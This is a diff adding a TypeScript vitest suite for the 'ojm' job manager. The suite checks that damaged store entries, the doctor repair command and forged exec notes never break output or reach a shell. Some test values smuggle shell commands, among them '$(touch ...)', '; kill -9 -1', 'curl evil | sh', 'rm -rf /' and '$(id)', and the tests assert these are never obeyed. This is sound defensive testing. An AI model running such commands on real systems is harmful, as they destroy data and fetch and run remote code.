@@ -1,0 +1,438 @@
+import { execFileSync, spawn } from "node:child_process";
+import { existsSync, rmSync } from "node:fs";
+import { type Channel, type JobManager, type Key, parseRunId } from "@ojm/core";
+import { identityOf } from "@ojm/core/backend";
+import { Scheduler } from "@ojm/schedule";
+import { createUi, type Ui } from "@ojm/ui";
+import { expect, onTestFinished, test } from "vitest";
+import { openWith } from "../packages/alerts/src/open.js";
+import { FakeReceiver } from "../packages/alerts/src/testing/receiver.js";
+import { called } from "../packages/cli/src/testing/called.js";
+import { folderWith } from "../packages/cli/src/testing/ojm.js";
+import { storeIn } from "../packages/cli/src/testing/store.js";
+import { collect } from "../packages/core/src/testing/settle.js";
+
+/*
+ * One damaged entry costs its own row and nothing else. Each test builds a store in which every kind of entry
+ * belongs to a job whose name begins with "well", damages copies of one kind under other names in every way,
+ * and then asks every question: each name that was in an answer before is in it still.
+ */
+
+const CHANNELS = [
+  "oJobManager-jobs",
+  "oJobManager-locks",
+  "oJobManager-schedules",
+  "oJobManager-times",
+  "oJobManager-logs",
+  "oJobManager-turns",
+  "oJobManager-alerts",
+] as const;
+
+type Json = string | number | boolean | null | readonly Json[] | { readonly [field: string]: Json };
+
+interface Stored {
+  readonly channel: string;
+  readonly key: Key;
+  readonly value: Json;
+}
+
+/** A store with every kind of entry. */
+interface Well {
+  readonly folder: string;
+  readonly manager: JobManager;
+  readonly ui: Ui;
+}
+
+async function healthy(): Promise<Well> {
+  const folder = folderWith({});
+  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
+  const manager = await storeIn(folder);
+  await manager.run("well-done", (run) => {
+    run.log.info("well said");
+    run.progress(1, 2, "rows");
+  });
+  await manager.run("well-failed", () => Promise.reject(new Error("no data"))).catch(() => {});
+  const held = await manager.start("well-running");
+  const abort = new AbortController();
+  const waits = manager.start("well-running", { wait: 600_000, signal: abort.signal });
+  waits.catch(() => {});
+  await expect.poll(async () => (await manager.waiters("well-running")).length).toBe(1);
+  await manager.hold("well-held", { reason: "disk", until: Date.now() + 600_000 });
+  const retry = { attempts: 3, delay: 600_000 };
+  const tried = manager.run("well-tried", () => Promise.reject(new Error("again")), { retry, signal: abort.signal });
+  tried.catch(() => {});
+  await expect.poll(async () => (await manager.retries()).length).toBe(1);
+  const forced = await manager.start("well-forced");
+  await manager.unlock("well-forced", { reason: "it hangs" });
+  await forced.end().catch(() => {});
+  const locks = manager.channels.locks as Channel<unknown>;
+  const orphan = spawn("sleep", ["600"]);
+  const pid = orphan.pid ?? 0;
+  const begun = `well-exec@${new Date().toISOString()}`;
+  await locks.set(["exec", "well-exec"], { ...identityOf(pid), run: begun, ojm: identityOf(process.pid) });
+  await locks.set(["exec-refused", "well-done"], { times: [Date.now() + 1], host: "h", pid: 7, why: "it is held" });
+  await locks.set(["sweep"], { by: { host: "h", pid: 7 }, at: Date.now() });
+  const scheduler = new Scheduler(manager);
+  await scheduler.add("well-timed", { every: 86_400_000, meta: { team: "a" } }, () => {});
+  await scheduler.add("well-paused", { cron: "0 0 1 1 *" }, () => {});
+  await scheduler.pause("well-paused", { reason: "no data" });
+  const schedules = await manager.channel<unknown>("oJobManager-schedules");
+  const by = { host: "h", pid: 7, instance: "i" };
+  const at = Math.floor(Date.now() / 86_400_000) * 86_400_000 - 86_400_000;
+  const tick = { outcome: "skipped", reason: "overlap", by, decided: at, revision: 1, evidence: { host: "h", pid: 7 } };
+  await schedules.set(["tick", "well-timed", at], tick);
+  await schedules.set(["unrun", "well-timed", at], 0);
+  await schedules.set(["removed", "well-gone"], { by, at });
+  const asked = { type: "backfill", reason: "late", by: "ana", at, from: at - 1, to: at - 1, first: at - 1, ticks: 0 };
+  await schedules.set(["request", "well-asked", "r"], asked);
+  await manager.rollups({ from: Date.now() - 3_600_000, to: Date.now(), by: "minute" });
+  await longAlerts(manager);
+  await expect.poll(async () => (await entriesOf(manager)).map(kindOf)).toContain("schedules member part");
+  const ui = createUi({ manager, scheduler, authorize: () => ({ user: "ana", role: "admin" }) });
+  onTestFinished(async () => {
+    orphan.kill("SIGKILL");
+    abort.abort();
+    await ui.close();
+    await scheduler.close();
+    await held.end().catch(() => {});
+  });
+  return { folder, manager, ui };
+}
+
+const channelOf = (manager: JobManager, name: string): Promise<Channel<unknown>> => manager.channel<unknown>(name);
+
+async function entriesOf(manager: JobManager): Promise<Stored[]> {
+  const found: Stored[] = [];
+  for (const channel of CHANNELS)
+    for await (const { key, value } of (await channelOf(manager, channel)).entries())
+      found.push({ channel, key, value: value as Json });
+  return found;
+}
+
+/** Which kind of entry a key is of. */
+function kindOf({ channel, key }: Pick<Stored, "channel" | "key">): string {
+  const of = channel.replace("oJobManager-", "");
+  if (Array.isArray(key)) {
+    const [kind, , part] = key as readonly (string | number)[];
+    if (of === "logs") return "logs entry";
+    if (typeof kind === "number") return `${of} by time`;
+    const more = typeof part === "string" && ["queue", "call", "stop"].includes(part) ? ` ${part}` : "";
+    const isPart = kind === "member" && part !== undefined ? " part" : "";
+    return `${of} ${kind}${more}${isPart}`;
+  }
+  return typeof key === "object" ? `${of} entry` : `${of} ${String(key)}`;
+}
+
+const FEW: readonly Json[] = [null, 0, "x", {}];
+const MANY: readonly Json[] = [...FEW, [], true, -1, 1e300, [null], { a: { b: null } }];
+
+/** The kinds of which there is one entry, or one that has no name. */
+const SINGLE: ReadonlySet<string> = new Set([
+  ...["alerts rule", "alerts turn", "locks sweep", "times filled", "times fold"],
+  ...["turns look", "turns orphans", "turns rollups", "turns seen"],
+]);
+
+/** A value in many damaged forms: as a whole, and field by field. */
+function damages(value: Json, others: readonly Json[], depth: number): Json[] {
+  const inner: Json[] = [];
+  if (depth > 0 && typeof value === "object" && value !== null) {
+    const isList = Array.isArray(value);
+    for (const [field, item] of Object.entries(value)) {
+      const rest = Object.entries(value).filter(([other]) => other !== field);
+      if (!isList) inner.push(Object.fromEntries(rest));
+      for (const damaged of damages(item as Json, others.slice(0, 3), depth - 1)) {
+        const list = isList ? value.map((one: Json, i: number) => (String(i) === field ? damaged : one)) : [];
+        inner.push(isList ? list : { ...value, [field]: damaged });
+      }
+    }
+  }
+  return [...others, ...inner];
+}
+
+/** The same with the names of the jobs, and the ids of the sessions, replaced. */
+function renamed<T>(value: T, from: string, to: string): T {
+  return JSON.parse(JSON.stringify(value).replaceAll(from, to)) as T;
+}
+
+/** What names an entry, so that a copy can stand beside it. */
+function ownName({ key }: Stored): string | undefined {
+  const parts: readonly unknown[] = Array.isArray(key) ? key : typeof key === "object" ? Object.values(key) : [];
+  const isPlain = parts.find((part) => typeof part === "string" && part.startsWith("well-"));
+  if (isPlain !== undefined) return isPlain as string;
+  return ["session", "member"].includes(String(parts[0])) ? String(parts[1]) : undefined;
+}
+
+const COMMANDS: readonly (readonly string[])[] = [
+  ["ps"],
+  ["jobs"],
+  ["next"],
+  ["next", "well-timed"],
+  ["why", "well-running"],
+  ["why", "well-done"],
+  ["why", "well-timed"],
+  ["why", "well-tried"],
+  ["doctor"],
+  ["locks", "well-running"],
+  ["locks", "well-held"],
+  ["locks"],
+  ["runs", "-n", "10000"],
+  ["runs", "--failed", "-n", "10000"],
+  ["runs", "--by-name", "-n", "10000"],
+  ["ticks", "well-timed"],
+  ["audit", "well-held"],
+  ["logs", "well-done"],
+  ["show", "well-failed"],
+];
+
+const PATHS = [
+  "now",
+  "timeline?q=well",
+  "jobs?q=well",
+  "jobs/well-timed",
+  "jobs/well-running/why",
+  "runs?name=well-done",
+];
+const MORE_PATHS = ["runs/RUN", "runs/RUN/log", "locks", "zones", "audit?name=well-held"];
+
+/** What an answer says about the jobs that are well. */
+function wellIn(text: string): Set<string> {
+  return new Set(text.match(/well[- ][a-z]+/g));
+}
+
+/** Every question, and what its answer says about the jobs that are well. */
+async function ask({ folder, manager, ui }: Well, run: string): Promise<Map<string, Set<string>>> {
+  const answers = new Map<string, Set<string>>();
+  for (const words of COMMANDS) {
+    for (const json of [[], ["--json"]]) {
+      const { code, out, err } = await called(folder, [...words, "--store", "sqlite:ojm.db", ...json]);
+      const what = `ojm ${[...words, ...json].join(" ")}`;
+      // What doctor finds is a problem for its exit code.
+      if (code !== 0 && !(words[0] === "doctor" && code === 1)) throw new Error(`${what} ended with ${code}: ${err}`);
+      // Below the locks that are held, it shows those of the last runs alone.
+      const held = /^ojm locks( --json)?$/.test(what) ? ["well-running", "well-held"] : undefined;
+      const names = wellIn(out);
+      answers.set(what, held === undefined ? names : new Set(held.filter((name) => names.has(name))));
+    }
+  }
+  for (const path of [...PATHS, ...MORE_PATHS].map((one) => one.replace("RUN", encodeURIComponent(run)))) {
+    const headers = { Host: "localhost:7717" };
+    const answer = await ui.fetch(new Request(`http://localhost:7717/api/v1/${path}`, { headers }));
+    const text = await answer.text();
+    if (!answer.ok) throw new Error(`GET ${path} answered ${answer.status}: ${text}`);
+    answers.set(`GET ${path}`, wellIn(text));
+  }
+  const names = (found: readonly { readonly name: string }[]): Set<string> => wellIn(JSON.stringify(found));
+  answers.set("long alerts", await longAlerts(manager));
+  answers.set("running()", names(await manager.running()));
+  answers.set("failing()", names(await manager.failing()));
+  answers.set("retries()", names(await manager.retries()));
+  const to = Date.now() + 1;
+  answers.set("rollups()", names((await manager.rollups({ from: to - 3_600_000, to, by: "minute" })).jobs));
+  return answers;
+}
+
+let rules = 0;
+
+/** Whether a new rule on `long` still finds the run that is long, beside a rule that has a state. */
+async function longAlerts(manager: JobManager): Promise<Set<string>> {
+  const receiver = new FakeReceiver();
+  const fresh = `fresh-${++rules}`;
+  const rule = { on: ["long"], longer: 1, to: { webhook: "https://example.com/hook" } } as const;
+  await using _ = await openWith(
+    manager,
+    {
+      rules: [
+        { ...rule, id: "well-rule" },
+        { ...rule, id: fresh },
+      ],
+    },
+    receiver.send,
+  );
+  const isTold = (): boolean => receiver.taken.some((one) => one.rule === fresh && one.name === "well-running");
+  await expect.poll(isTold, { message: "a long run is told", timeout: 20_000 }).toBe(true);
+  return new Set(["well-running"]);
+}
+
+const KINDS = [
+  "alerts rule",
+  "alerts turn",
+  "jobs entry",
+  "locks audit",
+  "locks exec",
+  "locks exec-refused",
+  "locks lock",
+  "locks lock queue",
+  "locks retry",
+  "locks session",
+  "locks sweep",
+  "logs entry",
+  "schedules cursor",
+  "schedules member",
+  "schedules member part",
+  "schedules removed",
+  "schedules request",
+  "schedules schedule",
+  "schedules tick",
+  "schedules unrun",
+  "times by time",
+  "times error",
+  "times failed",
+  "times filled",
+  "times fold",
+  "turns look",
+  "turns orphans",
+  "turns rollups",
+  "turns seen",
+];
+
+test("the store of these tests has entries of every kind", async () => {
+  const { manager } = await healthy();
+  expect([...new Set((await entriesOf(manager)).map(kindOf))].sort()).toEqual(KINDS);
+});
+
+test.each(KINDS)("damaged entries (%s) cost their own rows and nothing else", { timeout: 600_000 }, async (kind) => {
+  const well = await healthy();
+  const { manager } = well;
+  const all = await entriesOf(manager);
+  const run = (await collect(manager.history({ name: "well-done" })))[0]?.id ?? "";
+  expect(parseRunId(run)).toBeDefined();
+  const before = await ask(well, run);
+  const check = async (damage: string): Promise<void> => {
+    const after = await ask(well, run).catch((error: Error) => {
+      throw new Error(`${damage}: ${error.message}`, { cause: error });
+    });
+    for (const [what, names] of before) {
+      const lost = [...names].filter((name) => !after.get(what)?.has(name));
+      expect(lost, `${damage}: ${what} lacks rows`).toEqual([]);
+    }
+  };
+  let count = 0;
+  for (const stored of all.filter((one) => kindOf(one) === kind)) {
+    const channel = await channelOf(manager, stored.channel);
+    const own = ownName(stored);
+    // Of the runs of the alerts themselves, for one.
+    if (own === undefined && !SINGLE.has(kind)) continue;
+    for (const value of own === undefined ? damages(stored.value, FEW, 0) : damages(stored.value, MANY, 2)) {
+      const name = `hurt-${++count}`;
+      const key = own === undefined ? stored.key : renamed(stored.key, own, name);
+      await channel.set(key, own === undefined ? value : renamed(value, own, name));
+      // There is one entry of this kind.
+      if (own === undefined) await check(`${JSON.stringify(key)} is ${JSON.stringify(value)}`);
+    }
+  }
+  await check(`${count} entries of the kind "${kind}"`);
+});
+
+test("ojm doctor names damaged entries of any name, and its command removes them and nothing else", async () => {
+  const { folder, manager } = await healthy();
+  const words = ["doctor", "--store", "sqlite:ojm.db"];
+  const odd = `it's "odd" $(touch ${folder}/obeyed) \u001b[2J\n  \u202e\u009b ; kill -9 -1`;
+  const locks = manager.channels.locks as Channel<unknown>;
+  const schedules = await channelOf(manager, "oJobManager-schedules");
+  const planted: [Channel<unknown>, Key][] = [
+    [locks, ["lock", odd]],
+    [locks, ["lock", "plain"]],
+    [locks, ["exec", odd]],
+    [locks, ["exec-refused", odd]],
+    [locks, ["retry", odd, "chain"]],
+    [locks, ["audit", odd, 5, "x"]],
+    [manager.channels.jobs as Channel<unknown>, { name: odd, startTime: 5 }],
+    [schedules, ["schedule", odd]],
+    [schedules, ["cursor", odd]],
+    [schedules, ["tick", odd, 5]],
+  ];
+  const damaged = async (): Promise<readonly { readonly text: string; readonly help?: string }[]> => {
+    const { out } = await called(folder, [...words, "--json"]);
+    const found = JSON.parse(out) as readonly { check: string; state: string; text: string; help?: string }[];
+    return found.filter(({ check, state }) => check === "entries" && state !== "ok");
+  };
+  expect(await damaged()).toEqual([]);
+  const before = await entriesOf(manager);
+  for (const [channel, key] of planted) await channel.set(key, channel === schedules ? { definition: {} } : null);
+  const found = await damaged();
+  expect(found.length).toBe(planted.length);
+  // A damaged lock is held: nobody else may have it.
+  const locked = manager.start("plain", { wait: 0 });
+  await expect(locked).rejects.toMatchObject({ code: "CORRUPT", message: expect.stringContaining("ojm doctor") });
+  // As the text is printed, on a narrow terminal too.
+  const { out } = await called(folder, words);
+  for (const { help = "" } of found) {
+    const [, command = ""] = /ojm doctor --remove (.*)$/.exec(help) ?? [];
+    expect(out).toContain(command);
+    const word = execFileSync("sh", ["-c", `printf %s ${command}`], { cwd: folder, encoding: "utf8" });
+    const removed = await called(folder, [...words, "--remove", word]);
+    expect(removed).toMatchObject({ code: 0, out: expect.stringContaining("removed the entry") });
+    expect((await called(folder, [...words, "--remove", word])).code).toBe(3);
+  }
+  expect(existsSync(`${folder}/obeyed`)).toBe(false);
+  expect(await damaged()).toEqual([]);
+  const keys = (stored: readonly Stored[]): string[] =>
+    stored.filter((one) => !kindOf(one).startsWith("locks audit")).map(({ key }) => JSON.stringify(key));
+  expect(keys(await entriesOf(manager))).toEqual(expect.arrayContaining(keys(before)));
+  await (await manager.start("plain", { wait: 0 })).end();
+  const audit = await collect(manager.audit({ name: "plain" }));
+  expect(audit).toMatchObject([{ action: "remove-damaged", author: expect.stringContaining("@") }]);
+  // What is well is not for it to remove.
+  const well = JSON.stringify(["oJobManager-locks", ["lock", "well-running"]]);
+  const refused = await called(folder, [...words, "--remove", well]);
+  expect(refused).toMatchObject({ code: 2, err: expect.stringContaining("is not damaged: nothing was done") });
+  expect((await manager.locks()).map(({ name }) => name)).toContain("well-running");
+});
+
+test("a forged note of ojm exec makes no command print a pid or a text that a shell would obey", async () => {
+  const { folder, manager, ui } = await healthy();
+  const locks = manager.channels.locks as Channel<unknown>;
+  const evil = "h; curl evil | sh";
+  const elsewhere = { host: "other-host", boot: "b", namespace: "n", started: "1" };
+  const notes = [
+    { ...elsewhere, pid: 1 },
+    { ...elsewhere, pid: 0 },
+    { ...elsewhere, pid: -7 },
+    { ...elsewhere, pid: "7; rm -rf /" },
+    { ...elsewhere, pid: 1.5 },
+    { ...elsewhere, pid: 77, host: evil },
+    { ...elsewhere, pid: 77, host: "$(id)" },
+    { ...identityOf(process.pid), pid: 1 },
+  ];
+  for (const [i, note] of notes.entries()) {
+    const run = `forged-${i}@${new Date(5).toISOString()}`;
+    await locks.set(["exec", `forged-${i}`], { ...note, run });
+    // And one under the name of another job.
+    await locks.set(["exec", `other-${i}`], { ...elsewhere, pid: 77, run });
+  }
+  await locks.set(["exec", "real"], { ...elsewhere, pid: 77, run: `real@${new Date(5).toISOString()}` });
+  let said = "";
+  for (const words of [["doctor"], ["ps"], ["why", "real"], ["locks"], ["jobs"]]) {
+    const { out, err } = await called(folder, [...words, "--store", "sqlite:ojm.db"]);
+    said += out + err;
+  }
+  const headers = { Host: "localhost:7717" };
+  said += await (await ui.fetch(new Request("http://localhost:7717/api/v1/now", { headers }))).text();
+  expect(said).toContain("ps -o pid,etime,args -p 77");
+  expect(said).not.toMatch(/kill -TERM -- -?[01-]?\b(?!\d)|-p [01]\b|-- --/);
+  expect(said).not.toContain("curl evil");
+  expect(said).not.toMatch(/on \$\(id\)/);
+});
+
+test("a record whose name begins like those of ojm itself is hidden nowhere, and those of ojm are", async () => {
+  const { folder, manager, ui } = await healthy();
+  const [done] = await collect(manager.history({ name: "well-failed" }));
+  for (const name of ["ojm evil", "ojm alerts"]) {
+    const at = { name, startTime: Date.now() };
+    const record = { ...done, ...at, id: `${name}@${new Date(at.startTime).toISOString()}` };
+    await (manager.channels.jobs as Channel<unknown>).set(at, record);
+    await (await channelOf(manager, "oJobManager-times")).set([at.startTime, name], 0);
+  }
+  for (const words of [["runs"], ["runs", "--by-name"], ["jobs"]]) {
+    const { out } = await called(folder, [...words, "--store", "sqlite:ojm.db"]);
+    expect(out).toContain("ojm evil");
+    expect(out).not.toContain("ojm alerts");
+  }
+  for (const path of ["jobs", "runs"]) {
+    const headers = { Host: "localhost:7717" };
+    const answer = await ui.fetch(new Request(`http://localhost:7717/api/v1/${path}`, { headers }));
+    const text = await answer.text();
+    expect(text).toContain("ojm evil");
+    expect(text).not.toContain("ojm alerts");
+  }
+});
